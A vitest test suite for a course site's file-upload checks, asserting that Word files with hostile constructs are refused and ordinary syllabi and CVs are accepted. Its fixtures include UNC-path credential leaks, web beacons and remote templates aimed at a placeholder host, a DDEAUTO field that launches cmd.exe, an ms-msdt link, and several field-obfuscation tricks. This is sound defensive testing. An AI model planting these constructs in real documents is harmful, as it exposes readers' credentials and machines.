import fs from "node:fs";
import { afterEach, describe, expect, it } from "vitest";
import { COURSE_IMAGE_RULE, COURSE_SYLLABUS_RULE } from "~/web/course-upload.server";
import { scanPart } from "~/infra/file-checks/docx-parts.server";
import { ENQUIRY_UPLOAD_RULE } from "~/web/site-forms.server";
import { parseMultipart, type MultipartResult } from "~/infra/uploads.server";
import { SYLLABUS_TYPE_MESSAGE } from "~/schemas/course";
import { ENQUIRY_FILE_TYPE_MESSAGE } from "~/schemas/enquiry";
import { filesOnDisk, uploadRoot } from "../helpers/stored-files";
import { multipartRequest, wordBinary, zip } from "./upload-fixtures";

/**
 * DOCX files that make Word fetch something when a visitor opens a syllabus (or staff an attachment): a
 * relationship to another machine or a file path, an INCLUDEPICTURE / INCLUDETEXT (or DDE) field, an altChunk
 * that imports another file. Refused with each kind's type message, like a macro; ordinary documents with web
 * links and everyday fields are still taken. Real archives through the real upload parser and upload folder.
 */
const RULES = [COURSE_IMAGE_RULE, COURSE_SYLLABUS_RULE, ENQUIRY_UPLOAD_RULE];

async function upload(field: string, filename: string, data: Buffer): Promise<MultipartResult> {
  return parseMultipart(multipartRequest([{ name: field, filename, data }]), RULES);
}

afterEach(() => fs.rmSync(uploadRoot(), { recursive: true, force: true }));

const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const STRICT_REL_NS = "http://purl.oclc.org/ooxml/officeDocument/relationships";

const CONTENT_TYPES = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);

const ROOT_RELS = rels(`<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/document.xml"/>`);

/** A Word XML part (document, header, footer, footnotes) around the given body XML. */
function wordXml(body: string, root = "w:document", inner = "w:body"): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><${root} xmlns:w="${W}" xmlns:r="${R}"><${inner}>${body}</${inner}></${root}>`;
}

function rels(body: string): Buffer {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`,
  );
}

function relationship(type: string, target: string, external = true, ns = REL_NS, id = "rId9"): string {
  return `<Relationship Id="${id}" Type="${ns}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`;
}

const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/** Paragraphs of varied course text, about `bytes` long: it compresses like prose, so the archive's ratio guard lets it through. */
let seed = 7;
function prose(bytes: number): string {
  const words = [
    "alert",
    "triage",
    "SIEM",
    "log",
    "query",
    "endpoint",
    "phishing",
    "malware",
    "incident",
    "playbook",
    "network",
    "packet",
    "hash",
    "IOC",
    "threat",
    "hunting",
    "Splunk",
    "Sentinel",
    "escalation",
    "analyst",
  ];
  const out: string[] = [];
  let size = 0;
  while (size < bytes) {
    const sentence = Array.from({ length: 12 }, () => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return `${words[seed % words.length]}${seed % 97}`;
    }).join(" ");
    const p = para(`${sentence}.`);
    out.push(p);
    size += p.length;
  }
  return out.join("");
}

/** A complex field as Word writes it: begin, the instruction in one or more runs, separate, result, end. */
function field(instructionRuns: string[], result = "x"): string {
  return (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    instructionRuns.map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`).join("") +
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
    `<w:r><w:t>${result}</w:t></w:r>` +
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
  );
}

/** A long SVG path (a traced logo): one attribute well over a megabyte. */
function svgPath(points: number): string {
  let out = "";
  for (let i = 0; i < points; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    out += ` L${seed % 997} ${(seed >>> 10) % 991}`;
  }
  return out;
}

type Part = { name: string; data: Buffer | string };

/** A package with the given document body, document relationships and further parts. */
function wordFile(body: string, opts: { documentRels?: string; parts?: Part[]; document?: Buffer } = {}): Buffer {
  const entries = [
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "word/document.xml", data: opts.document ?? Buffer.from(wordXml(body)) },
  ];
  if (opts.documentRels !== undefined) entries.push({ name: "word/_rels/document.xml.rels", data: rels(opts.documentRels) });
  for (const p of opts.parts ?? []) entries.push({ name: p.name, data: typeof p.data === "string" ? Buffer.from(p.data) : p.data });
  return zip(entries);
}

async function expectRefusedEverywhere(file: Buffer) {
  expect((await upload("syllabusFile", "syllabus.docx", file)).errors.syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
  expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
  expect(filesOnDisk()).toEqual([]);
}

async function expectAcceptedEverywhere(file: Buffer) {
  const syllabus = await upload("syllabusFile", "syllabus.docx", file);
  expect(syllabus.errors).toEqual({});
  expect(syllabus.files).toHaveLength(1);
  const attachment = await upload("filePaths", "cv.docx", file);
  expect(attachment.errors).toEqual({});
  expect(attachment.files).toHaveLength(1);
}

describe("relationships to another machine or a file", () => {
  const refused: [string, () => Buffer][] = [
    [
      "a linked picture fetched over HTTP (a web beacon)",
      () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/pixel.png") }),
    ],
    [
      "a linked picture on a UNC path (hands over the reader's Windows credentials)",
      () => wordFile(para("Week 1"), { documentRels: relationship("image", "\\\\203.0.113.9\\share\\logo.png") }),
    ],
    [
      "a linked picture under the strict (ISO) namespace",
      () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/p.png", true, STRICT_REL_NS) }),
    ],
    [
      "an external link to a workbook (externalLinkPath)",
      () => wordFile(para("x"), { documentRels: relationship("externalLinkPath", "https://203.0.113.9/book.xlsx") }),
    ],
    [
      "a mail-merge data source on another host (settings.xml.rels)",
      () =>
        wordFile(para("x"), {
          parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("mailMergeSource", "file://203.0.113.9/share/data.mdb")) }],
        }),
    ],
    [
      "a remote template on a //host/share path",
      () =>
        wordFile(para("x"), { parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("attachedTemplate", "//203.0.113.9/share/t.dotm")) }] }),
    ],
    [
      "a hyperlink to a program on the reader's disk (file:)",
      () => wordFile(para("x"), { documentRels: relationship("hyperlink", "file:///C:/Windows/System32/calc.exe") }),
    ],
    ["a hyperlink in upper case FILE: scheme", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "FILE:///C:/Windows/System32/calc.exe") })],
    [
      "a hyperlink to a UNC share (\\\\host\\share)",
      () => wordFile(para("x"), { documentRels: relationship("hyperlink", "\\\\203.0.113.9\\share\\notes.docx") }),
    ],
    ["a hyperlink to a //host/share path", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "//203.0.113.9/share/notes.docx") })],
    [
      "a hyperlink to a UNC share spelled with character references",
      () => wordFile(para("x"), { documentRels: relationship("hyperlink", "&#92;&#x5c;203.0.113.9\\share\\n.docx") }),
    ],
    [
      "an internal relationship whose target is a file: URL",
      () => wordFile(para("x"), { documentRels: relationship("image", "file://203.0.113.9/share/p.png", false) }),
    ],
    [
      "a hyperlink relationship in a header's part",
      () => wordFile(para("x"), { parts: [{ name: "word/_rels/header1.xml.rels", data: rels(relationship("hyperlink", "\\\\evil\\s\\x")) }] }),
    ],
  ];
  for (const [label, make] of refused) {
    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
      await expectRefusedEverywhere(make());
    });
  }
});

describe("fields that pull in another file or run a program", () => {
  const refused: [string, () => Buffer][] = [
    ["an INCLUDEPICTURE field", () => wordFile(`<w:p>${field([' INCLUDEPICTURE "https://203.0.113.9/p.png" \\d '])}</w:p>`)],
    ["an INCLUDEPICTURE field on a UNC path", () => wordFile(`<w:p>${field([' INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\share\\\\p.png" '])}</w:p>`)],
    [
      "an INCLUDEPICTURE field split over several runs, in lower case",
      () => wordFile(`<w:p>${field([" incl", "udePic", 'ture "https://203.0.113.9/p.png"'])}</w:p>`),
    ],
    ["an INCLUDETEXT field", () => wordFile(`<w:p>${field([' INCLUDETEXT "C:\\\\Users\\\\Public\\\\x.docx" '])}</w:p>`)],
    [
      "an INCLUDETEXT in a simple field in a header",
      () =>
        wordFile(para("x"), {
          parts: [
            {
              name: "word/header1.xml",
              data: wordXml(
                '<w:fldSimple w:instr=" INCLUDETEXT &quot;https://203.0.113.9/t.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
                "w:hdr",
                "w:p",
              ),
            },
          ],
        }),
    ],
    [
      "an INCLUDEPICTURE in the footnotes",
      () =>
        wordFile(para("x"), {
          parts: [
            {
              name: "word/footnotes.xml",
              data: wordXml(`<w:footnote w:id="1"><w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p></w:footnote>`, "w:footnotes", "w:body"),
            },
          ],
        }),
    ],
    ["an INCLUDETEXT hidden behind character references", () => wordFile(`<w:p>${field([" INCLUDE&#84;E&#x58;T http://203.0.113.9/t.docx "])}</w:p>`)],
    [
      "an INCLUDEPICTURE split by an XML comment and a CDATA section",
      () =>
        wordFile(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE<!-- x --><![CDATA[PIC]]>TURE http://203.0.113.9/p.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
    ],
    [
      "an INCLUDEPICTURE under another namespace prefix",
      () =>
        wordFile("", {
          document: Buffer.from(
            `<?xml version="1.0"?><x:document xmlns:x="${W}"><x:body><x:p><x:r><x:instrText>INCLUDEPICTURE http://203.0.113.9/p.png</x:instrText></x:r></x:p></x:body></x:document>`,
          ),
        }),
    ],
    [
      "an INCLUDEPICTURE in a UTF-16 document",
      () =>
        wordFile("", {
          document: Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(
              wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`).replace('encoding="UTF-8"', 'encoding="UTF-16"'),
              "utf16le",
            ),
          ]),
        }),
    ],
    [
      "an INCLUDEPICTURE deep in a document over 3 MB (past any one chunk)",
      () => wordFile(prose(3_500_000) + `<w:p>${field([" INCLUDEPIC", "TURE http://203.0.113.9/p.png "])}</w:p>`),
    ],
    [
      "an INCLUDEPICTURE in a main document kept under another name",
      () =>
        zip([
          { name: "[Content_Types].xml", data: CONTENT_TYPES },
          { name: "_rels/.rels", data: rels(`<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/main.dat"/>`) },
          { name: "word/document.xml", data: Buffer.from(wordXml(para("decoy"))) },
          { name: "word/main.dat", data: Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`)) },
        ]),
    ],
    [
      "a field whose name is made by a nested QUOTE field",
      () =>
        wordFile(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field([" QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 "])}<w:r><w:instrText> "http://203.0.113.9/p.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
    ],
    ["a DDEAUTO field (runs a program)", () => wordFile(`<w:p>${field([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '])}</w:p>`)],
    [
      "a part with a DOCTYPE (an entity could spell the field)",
      () =>
        wordFile("", {
          document: Buffer.from(
            `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f "INCLUDEPICTURE">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>&f; http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`,
          ),
        }),
    ],
    [
      "a part declared in an encoding the checks cannot read (UTF-7)",
      () =>
        wordFile("", {
          document: Buffer.from(
            `<?xml version="1.0" encoding="UTF-7"?><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>+AEkATgBDAEwAVQBEAEUAUABJAEMAVABVAFIARQ- http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`,
          ),
        }),
    ],
  ];
  for (const [label, make] of refused) {
    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
      await expectRefusedEverywhere(make());
    });
  }
});

/** A w:fldSimple field in a paragraph; `instr` is written as the attribute's XML text. */
const simpleField = (instr: string, result = "x") => `<w:p><w:fldSimple w:instr="${instr}"><w:r><w:t>${result}</w:t></w:r></w:fldSimple></w:p>`;

/** word/settings.xml asking Word to update every field when the document opens. */
const UPDATE_FIELDS: Part = {
  name: "word/settings.xml",
  data: wordXml('<w:updateFields w:val="true"/>', "w:settings", "w:compat").replace("<w:compat></w:compat>", ""),
};

describe("only harmless fields: an allow-list, not a list of bad names", () => {
  const UNC = "\\\\203.0.113.9\\share\\x.xlsx";
  const refused: [string, () => Buffer][] = [
    [
      "a LINK field with \\a (updated on opening) to a UNC share",
      () => wordFile(`<w:p>${field([` LINK Excel.Sheet.12 "${UNC}" "Sheet1!R1C1" \\a \\f 4 `])}</w:p>`),
    ],
    ["a LINK field to an http URL", () => wordFile(`<w:p>${field([' LINK Excel.Sheet.12 "http://203.0.113.9/x.xlsx" "" \\a '])}</w:p>`)],
    ["a LINK field split over runs", () => wordFile(`<w:p>${field([" LI", "NK Word.Document.12 ", '"C:\\\\x.docx" \\a'])}</w:p>`)],
    ["a LINK field in a simple field", () => wordFile(simpleField(` LINK Excel.Sheet.12 &quot;${UNC}&quot; &quot;&quot; \\a `))],
    ["a LINK field with updateFields on", () => wordFile(`<w:p>${field([' LINK Excel.Sheet.12 "x.xlsx" \\a '])}</w:p>`, { parts: [UPDATE_FIELDS] })],
    [
      "a DATABASE field querying a file on a share",
      () => wordFile(`<w:p>${field([` DATABASE \\d "${UNC}" \\s "SELECT * FROM x" \\h `])}</w:p>`, { parts: [UPDATE_FIELDS] }),
    ],
    ["a DATABASE field with a local path only", () => wordFile(`<w:p>${field([' DATABASE \\d "C:\\\\data.mdb" \\s "SELECT 1" '])}</w:p>`)],
    [
      "a DATABASE field in a simple field, split from its name by an entity",
      () => wordFile(simpleField(" DATA&#66;ASE \\d &quot;http://203.0.113.9/d.mdb&quot; ")),
    ],
    ["an RD field to a UNC share", () => wordFile(`<w:p>${field([` RD "${UNC}" `])}</w:p>`)],
    ["an RD field to an http URL", () => wordFile(`<w:p>${field([' RD "http://203.0.113.9/chapter.docx" \\f '])}</w:p>`)],
    ["an RD field split over runs, in lower case", () => wordFile(`<w:p>${field([" r", 'd "http://203.0.113.9/c.docx"'])}</w:p>`)],
    ["an RD field in a simple field", () => wordFile(simpleField(" RD &quot;//203.0.113.9/share/c.docx&quot; "))],
    [
      "an INCLUDEPICTURE split over five runs with updateFields on",
      () => wordFile(`<w:p>${field([" IN", "CLU", "DEPIC", "TURE ", '"http://203.0.113.9/p.png" \\d'])}</w:p>`, { parts: [UPDATE_FIELDS] }),
    ],
    ["an INCLUDEPICTURE in a simple field, UNC target", () => wordFile(simpleField(` INCLUDEPICTURE &quot;${UNC}&quot; \\d `))],
    ["a HYPERLINK field to a UNC share", () => wordFile(`<w:p>${field([` HYPERLINK "${UNC}" `])}</w:p>`)],
    ["a HYPERLINK field to a file: URL", () => wordFile(`<w:p>${field([' HYPERLINK "file:///C:/Windows/System32/calc.exe" '])}</w:p>`)],
    ["a HYPERLINK field to another program's scheme", () => wordFile(`<w:p>${field([' HYPERLINK "ms-msdt:/id PCWDiagnostic" '])}</w:p>`)],
    ["a harmless field name with a UNC path in it", () => wordFile(`<w:p>${field([` REF "${UNC}" `])}</w:p>`)],
    ["a harmless field name with an http URL in it", () => wordFile(simpleField(" QUOTE &quot;http://203.0.113.9/beacon&quot; "))],
    ["a field name that is not on the list (one Word may add some day)", () => wordFile(`<w:p>${field([" DOCSIGNATURE x "])}</w:p>`)],
    ["a PRIVATE field (data a converter left, read by nothing we know)", () => wordFile(simpleField(" PRIVATE x "))],
    ["a MACROBUTTON that runs a Word command", () => wordFile(`<w:p>${field([" MACROBUTTON FileOpen Click here "])}</w:p>`)],
    ["an instruction that starts with a quote", () => wordFile(`<w:p>${field([' "LINK" x \\a '])}</w:p>`)],
    [
      "a LINK field outside any field characters",
      () => wordFile("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:instrText> LINK x \\a</w:instrText></w:r></w:p>"),
    ],
  ];
  for (const [label, make] of refused) {
    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
      await expectRefusedEverywhere(make());
    });
  }

  it("takes everyday fields, split over runs and in simple fields, with updateFields on", async () => {
    const body =
      `<w:p>${field([" PA", "GE "], "1")} of ${field([" NUM", "PAGES \\* MERGEFORMAT "], "3")}</w:p>` +
      `<w:p>${field([' DATE \\@ "dd/MM/yyyy" '], "05/01/2026")} ${field([' TIME \\@ "h:mm am/pm" '], "9:30 am")}</w:p>` +
      `<w:p>${field([' TOC \\o "1-3" \\h \\z \\u '], "")}${field([" REF _Ref123 \\h "], "Week 2")}${field([" SEQ Figure \\* ARABIC "], "1")}</w:p>` +
      `<w:p>${field([" FORMTEXT "], "Your name")}${field([" FORMCHECKBOX "], "")}${field([" MACROBUTTON NoMacro [Click here and type] "], "")}</w:p>` +
      `<w:p>${field([' FILLIN "Your name?" \\d "Ravi" '], "Ravi")}${field([' ASK who "Who?" '], "")}${field([" SYMBOL 183 \\f Symbol "], "·")}</w:p>` +
      `<w:p>${field([" HYPER", 'LINK "https://attack.mitre.org/techniques/T1566/" \\o "MITRE" '], "T1566")}${field([' HYPERLINK \\l "_Toc1" '], "Week 1")}</w:p>` +
      `<w:p>${field([' HYPERLINK "mailto:admissions@example.in" '], "mail us")}${field([" = 2 * 3 "], "6")}${field([" AUTHOR "], "Asha")}</w:p>` +
      `<w:p>${field([' ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/users/1/items/ABC"]} '], "(NIST, 2012)")}</w:p>` +
      simpleField(" NUMPAGES ", "3") +
      simpleField(" HYPERLINK &quot;http://example.in/courses&quot; ", "courses") +
      simpleField(" DATE \\@ &quot;MMMM d, yyyy&quot; ", "January 5, 2026") +
      para("Module 7: LINK, DATABASE and RD fields that point at \\\\server\\share or http:// addresses.");
    await expectAcceptedEverywhere(wordFile(body, { parts: [UPDATE_FIELDS] }));
  });

  it("takes an embedded object's EMBED field in a syllabus, not in an attachment (no embedded objects there)", async () => {
    const file = wordFile(simpleField(" EMBED Excel.Sheet.12 "));
    expect((await upload("syllabusFile", "syllabus.docx", file)).errors).toEqual({});
    expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
  });
});

describe("altChunk: another file imported into the document", () => {
  it("refuses a w:altChunk element", async () => {
    await expectRefusedEverywhere(
      wordFile(`${para("Week 1")}<w:altChunk r:id="rId5"/>`, {
        documentRels: relationship("aFChunk", "afchunk.mht", false, REL_NS, "rId5"),
        parts: [{ name: "word/afchunk.mht", data: 'MIME-Version: 1.0\r\n\r\n<html><img src="file://203.0.113.9/x.png"></html>' }],
      }),
    );
  });

  it("refuses an aFChunk relationship on its own", async () => {
    await expectRefusedEverywhere(
      wordFile(para("Week 1"), {
        documentRels: relationship("aFChunk", "afchunk.htm", false),
        parts: [{ name: "word/afchunk.htm", data: "<html><p>x</p></html>" }],
      }),
    );
  });

  it("refuses an altChunk in a header, whatever its prefix", async () => {
    await expectRefusedEverywhere(
      wordFile(para("x"), { parts: [{ name: "word/header2.xml", data: `<?xml version="1.0"?><hdr xmlns="${W}"><altChunk/></hdr>` }] }),
    );
  });
});

describe("ordinary documents are still taken", () => {
  it("accepts a syllabus with web and mail links, a table of contents, page numbers and a picture", async () => {
    const body =
      `<w:p>${field([' TOC \\o "1-3" \\h \\z \\u '], "")}` +
      `<w:hyperlink w:anchor="_Toc1">${field([" PAGEREF _Toc1 \\h "], "2")}</w:hyperlink></w:p>` +
      `<w:p><w:hyperlink r:id="rId2"><w:r><w:t>NIST SP 800-61</w:t></w:r></w:hyperlink></w:p>` +
      `<w:p>${field([' HYPERLINK "https://attack.mitre.org/" '], "MITRE ATT&amp;CK")}</w:p>` +
      `<w:p><w:hyperlink r:id="rId3"><w:r><w:t>admissions</w:t></w:r></w:hyperlink></w:p>` +
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>${field([" DATE \\@ yyyy "], "2026")}<w:r><w:instrText> &gt; 2025 "new" "old" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
      para("Module 7: malicious Office documents - remote templates, INCLUDEPICTURE and INCLUDETEXT fields, altChunk, DDEAUTO.");
    const file = wordFile(body, {
      documentRels:
        relationship("hyperlink", "https://csrc.nist.gov/pubs/sp/800/61/r2/final", true, REL_NS, "rId2") +
        relationship("hyperlink", "mailto:admissions@example.in", true, REL_NS, "rId3") +
        relationship("hyperlink", "https://example.in/courses?level=advanced&amp;mode=online", true, STRICT_REL_NS, "rId4") +
        relationship("image", "media/image1.png", false, REL_NS, "rId6") +
        relationship("footer", "footer1.xml", false, REL_NS, "rId7"),
      parts: [
        { name: "word/footer1.xml", data: wordXml('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>', "w:ftr", "w:p") },
        { name: "word/media/image1.png", data: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x3c, 0x21, 0x44, 0x4f]) },
        { name: "word/media/image2.svg", data: `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0${svgPath(150_000)}"/></svg>` },
      ],
    });
    await expectAcceptedEverywhere(file);
  });

  it("accepts a long syllabus (a document part over 3 MB) with fields throughout", async () => {
    const weeks = Array.from({ length: 3000 }, (_, i) => `<w:p>${field([" PAGE "], String(i))}</w:p>${prose(1200)}`).join("");
    const file = wordFile(weeks);
    expect(file.length).toBeLessThan(10 * 1024 * 1024);
    await expectAcceptedEverywhere(file);
  });
});

describe("the part scanner, fed in chunks of any size", () => {
  /** Feeds the part in chunks of `size` bytes, as the inflate stream hands them over; true when refused. */
  function refusedInChunks(part: Buffer, size: number): boolean {
    const scanner = scanPart();
    for (let i = 0; i < part.length; i += size) if (scanner.write(part.subarray(i, i + size))) return true;
    return scanner.end();
  }

  const hostile: [string, Buffer][] = [
    ["a split INCLUDEPICTURE", Buffer.from(wordXml(`<w:p>${field([" INCLU", "DEPICTURE http://203.0.113.9/p.png "])}</w:p>`))],
    ["a simple INCLUDETEXT field", Buffer.from(wordXml('<w:p><w:fldSimple w:instr=" INCLUDETEXT x.docx "/></w:p>'))],
    ["a field split by a comment and CDATA", Buffer.from(wordXml("<w:p><w:r><w:instrText>INCLUDE<!-- - -><![CDATA[PICT]]>URE x</w:instrText></w:r></w:p>"))],
    ["an altChunk", Buffer.from(wordXml('<w:altChunk r:id="rId5"/>'))],
    ["a DOCTYPE", Buffer.from(`<?xml version="1.0"?><!DOCTYPE d><w:document xmlns:w="${W}"/>`)],
    [
      "a UTF-16 field",
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE x "])}</w:p>`).replace("UTF-8", "UTF-16"), "utf16le")]),
    ],
  ];
  const ordinary = Buffer.from(
    wordXml(
      `<!-- a comment --><w:p>${field([' TOC \\o "1-3" '], "")}<w:r><w:t><![CDATA[INCLUDEPICTURE is taught in week 7]]></w:t></w:r>${field([" PAGEREF _Toc1 "], "2")}</w:p>` +
        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    ),
  );

  for (const size of [1, 2, 3, 5, 8, 64, 1 << 20]) {
    it(`refuses each hostile part and takes an ordinary one, in chunks of ${size} bytes`, () => {
      for (const [label, part] of hostile) expect(refusedInChunks(part, size), label).toBe(true);
      expect(refusedInChunks(ordinary, size)).toBe(false);
    });
  }

  it("does not read a part that is not XML (a picture, a font), however it goes on", () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from("<w:altChunk/><!DOCTYPE x>")]);
    expect(refusedInChunks(png, 3)).toBe(false);
  });
});

describe("Word 97-2003 (.doc) files: the same fields, read from the document's text", () => {
  const F = (instruction: string, result = "x") => `\u0013${instruction}\u0014${result}\u0015`;
  const UNC = '"\\\\\\\\203.0.113.9\\\\share\\\\x.xls"';

  async function doc(field: string, file: Buffer) {
    return (await upload(field, field === "filePaths" ? "cv.doc" : "syllabus.doc", file)).errors;
  }

  const refused: [string, () => Buffer][] = [
    ["a LINK field with \\a to a UNC share", () => wordBinary([{ text: `Ravi Kumar ${F(` LINK Excel.Sheet.8 ${UNC} "" \\a `)} CV` }])],
    ["a DATABASE field to an http URL, stored as UTF-16", () => wordBinary([{ text: `CV ${F(' DATABASE \\d "http://203.0.113.9/d.mdb" ')}`, unicode: true }])],
    [
      "an RD field split over two pieces of text",
      () => wordBinary([{ text: `CV \u0013 R` }, { text: `D "http://203.0.113.9/c.doc" \u0014\u0015 end`, unicode: true }]),
    ],
    ["an INCLUDEPICTURE inside another field's result", () => wordBinary([{ text: F(" IF 1 = 1 ", F(' INCLUDEPICTURE "http://203.0.113.9/p.png" \\d ')) }])],
    ["a field whose name a nested field makes", () => wordBinary([{ text: `\u0013${F(" QUOTE 76 73 78 75 ")} "http://203.0.113.9/x"\u0014\u0015` }])],
  ];
  for (const [label, make] of refused) {
    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
      const file = make();
      expect((await doc("syllabusFile", file)).syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
      expect((await doc("filePaths", file)).filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
      expect(filesOnDisk()).toEqual([]);
    });
  }

  it("takes a CV with page numbers, a date, a web link and a table of contents", async () => {
    const file = wordBinary([
      { text: `Ravi Kumar${F(' TOC \\o "1-3" \\h ', "")} Page ${F(" PAGE ", "1")} of ${F(" NUMPAGES ", "2")} ` },
      { text: `${F(' DATE \\@ "dd/MM/yyyy" ', "05/01/2026")} ${F(' HYPERLINK "https://www.linkedin.com/in/ravi" ', "LinkedIn")} – ok`, unicode: true },
    ]);
    expect(await doc("syllabusFile", file)).toEqual({});
    expect(await doc("filePaths", file)).toEqual({});
  });
});
